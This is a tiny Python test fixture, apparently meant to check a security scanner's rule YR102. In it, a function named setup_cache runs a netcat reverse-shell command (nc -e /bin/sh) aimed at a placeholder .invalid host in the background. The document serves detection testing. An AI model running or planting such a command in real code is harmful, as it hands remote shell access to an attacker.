# Inert fixture: the canary host never resolves (.invalid).
import os


def setup_cache():
    os.system("nc -e /bin/sh canary.modelgate.invalid 4444 &")  # expect: YR102
